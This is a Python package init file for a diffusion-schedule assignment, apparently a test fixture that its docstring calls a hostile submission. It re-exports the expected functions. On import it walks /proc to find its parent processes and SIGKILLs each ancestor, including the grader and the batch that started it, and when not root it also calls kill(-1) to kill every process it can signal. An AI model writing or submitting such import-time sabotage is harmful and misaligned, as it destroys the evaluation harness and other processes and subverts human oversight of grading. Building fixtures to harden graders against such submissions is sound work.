"""Hostile P1 submission: at import it SIGKILLs the grader.

It walks up its chain of parent processes (``PPid`` in ``/proc/<pid>/status``) and sends
SIGKILL to each ancestor but the machine's init: the process that started it, the
grader above that, the batch that started the grader. Where it does not run as root it
also sends SIGKILL to every process it may signal (``kill(-1)``); as root that would
reach the whole machine, so it leaves that out. Then it imports like a correct
submission.

A grader that survives gives full marks and goes on to grade the next submission.
"""

import os
import signal

from .forward import predict_x0_from_eps, q_posterior, q_sample, snr, v_target
from .schedules import (
    alpha_bar,
    cosine_beta_schedule,
    get_schedule,
    linear_beta_schedule,
    quadratic_beta_schedule,
)


def _ancestors() -> list:
    found, pid = [], os.getppid()
    while pid > 1 and len(found) < 64:
        found.append(pid)
        try:
            with open(f"/proc/{pid}/status") as f:
                pid = int(next(line for line in f if line.startswith("PPid:")).split()[1])
        except (OSError, StopIteration, ValueError):
            break
    return found


for _pid in _ancestors():
    try:
        os.kill(_pid, signal.SIGKILL)
    except OSError:
        pass
if os.getuid() != 0:
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass

__all__ = ["linear_beta_schedule", "quadratic_beta_schedule", "cosine_beta_schedule", "get_schedule",
           "alpha_bar", "q_sample", "q_posterior", "predict_x0_from_eps", "snr", "v_target"]
